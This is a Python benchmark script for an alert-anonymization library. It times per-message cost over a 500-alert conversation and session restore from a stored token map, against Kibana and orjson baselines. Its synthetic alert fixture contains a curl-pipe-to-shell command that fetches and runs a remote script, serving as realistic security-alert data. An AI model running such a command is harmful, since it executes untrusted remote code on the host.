"""Cost over a conversation: long conversations, and sessions resumed from a stored map on every request.

Figures (each a ratio against a baseline measured in the same process, rounds interleaved):

* ``conversation_growth_1_20_to_481_500``: one conversation, a new 30-field alert (new user, host and addresses)
  anonymized per message; the mean cost of alerts 481-500 over that of alerts 1-20 (target <= 1.5: flat).
* ``resumed_restore_vs_kibana_10000``: a stateless server's request: a :class:`~anonymizer.Session` built from a
  stored 10,000-token map, then a 2 KB answer restored; against Kibana's loop (one replace-all per token of the
  same map) over the same answer (Kibana's time over ours; target >= 5).
* ``resumed_anonymize_vs_orjson_10000``: a session built from the same stored map, then one alert anonymized
  (some of its values known, some new); against reading what that request must read at least: the stored map
  (``orjson.loads`` of its JSON) and the alert (an ``orjson`` round trip) (target <= 20).

Run alone with ``python benchmarks/bench_conversation.py [--quick]``.
"""

from __future__ import annotations

import json
import random
import statistics
import sys
import time
from collections.abc import Callable
from typing import Any

import orjson
from bench_core import kibana_restore, model_answer  # benchmarks/ is on the path (run.py, or run from there)

from anonymizer import Anonymizer, FieldPolicy

_clock = time.perf_counter_ns


def alert(i: int) -> dict[str, Any]:
    """A 30-field ECS alert whose user, host and addresses are new for every ``i``."""
    user, host = f"user{i:05d}", f"srv-web-{i:05d}"
    return {
        "@timestamp": "2024-08-02T07:19:08.124Z",
        "_id": f"a1b2c3d4e5f6{i:06d}",
        "event": {"category": "process", "module": "endpoint", "dataset": "endpoint.events.process"},
        "host": {"name": host, "os": {"name": "Ubuntu", "version": "22.04"}, "architecture": "x86_64"},
        "user": {"name": user, "domain": "CORP", "target": {"name": "root"}},
        "source.ip": f"10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}",
        "destination.ip": f"172.16.{i // 256 % 256}.{i % 256}",
        "process": {
            "name": "bash",
            "pid": 4242,
            "executable": "/usr/bin/bash",
            "args": ["bash", "-c", "curl http://198.51.100.7/x.sh | sh"],
            "command_line": "bash -c curl http://198.51.100.7/x.sh | sh",
            "parent": {"name": "sshd", "executable": "/usr/sbin/sshd"},
            "working_directory": f"/home/{user}",
        },
        "file.path": "/tmp/x.sh",
        "kibana.alert.rule.name": "Suspicious curl pipe to shell",
        "kibana.alert.severity": "high",
        "kibana.alert.risk_score": 73,
        "kibana.alert.workflow_status": "open",
        "message": f"{user} ran a downloaded script on {host}",
        "network.protocol": "http",
        "rule.name": "curl | sh",
    }


def bench_growth(quick: bool) -> dict[str, float]:
    """Per-alert anonymize cost at the end of a 500-alert conversation against its start."""
    engine = Anonymizer(policy=FieldPolicy.kibana_default())
    alerts = [alert(i) for i in range(500)]
    first: list[float] = []
    last: list[float] = []
    for _ in range(3 if quick else 7):
        session = engine.session()
        times = []
        for a in alerts:
            t0 = _clock()
            session.anonymize_data(a, fields_to_anonymize=["source.ip", "destination.ip"])
            times.append(_clock() - t0)
        first.append(statistics.mean(times[:20]))
        last.append(statistics.mean(times[480:]))
    ratios = [b / a for a, b in zip(first, last, strict=True)]
    return {
        "conversation_growth_1_20_to_481_500": round(statistics.median(ratios), 2),
        "conversation_alert_us_1_20": round(statistics.median(first) / 1000, 1),
        "conversation_alert_us_481_500": round(statistics.median(last) / 1000, 1),
    }


def _stored_map(n: int) -> dict[str, str]:
    """The stored map of a conversation that has bound ``n`` tokens (Kibana's default uuid tokens)."""
    session = Anonymizer(policy=FieldPolicy.kibana_default()).session()
    for i in range(n):
        session.token_for(f"user{i:05d}", field="user.name")
    return session.replacements


def _interleaved(ours: Callable[[], Any], base: Callable[[], Any], rounds: int, number: int) -> tuple[float, float]:
    """Median over rounds of (our time, baseline time) per call, each round timing both back to back."""
    pairs = []
    for _ in range(rounds):
        t0 = _clock()
        for _ in range(number):
            ours()
        t1 = _clock()
        for _ in range(number):
            base()
        t2 = _clock()
        pairs.append(((t1 - t0) / number, (t2 - t1) / number))
    ratios = sorted(pairs, key=lambda p: p[0] / p[1])
    mid = ratios[len(ratios) // 2]
    return mid[0], mid[1]


def bench_resumed(quick: bool) -> dict[str, float]:
    """A session resumed from a stored 10,000-token map, per request: restore an answer, or anonymize an alert."""
    engine = Anonymizer(policy=FieldPolicy.kibana_default())
    stored = _stored_map(10_000)
    stored_json = orjson.dumps(stored)
    answer = model_answer(list(stored), 2_000, random.Random(5), rate=0.05)
    assert engine.session(stored).deanonymize(answer) == kibana_restore(answer, stored)
    rounds = 7 if quick else 21
    ours, kibana = _interleaved(
        lambda: engine.session(stored).deanonymize(answer), lambda: kibana_restore(answer, stored), rounds, 5
    )
    message = alert(3)  # user00003 is known, its host and addresses are new
    message["user"]["target"]["name"] = "user09999"

    def ours_anonymize() -> None:
        engine.session(stored).anonymize_data(message, fields_to_anonymize=["source.ip"])

    def read_only() -> None:
        orjson.loads(stored_json)
        orjson.loads(orjson.dumps(message))

    anon, base = _interleaved(ours_anonymize, read_only, rounds, 3)
    return {
        "resumed_restore_vs_kibana_10000": round(kibana / ours, 1),
        "resumed_restore_us_10000": round(ours / 1000, 1),
        "kibana_restore_us_2kb_10000": round(kibana / 1000, 1),
        "resumed_anonymize_vs_orjson_10000": round(anon / base, 1),
        "resumed_anonymize_us_10000": round(anon / 1000, 1),
        "orjson_read_map_us_10000": round(base / 1000, 1),
    }


def run(quick: bool) -> dict[str, float]:
    """All conversation figures."""
    return {**bench_growth(quick), **bench_resumed(quick)}


if __name__ == "__main__":
    print(json.dumps(run("--quick" in sys.argv), indent=2))
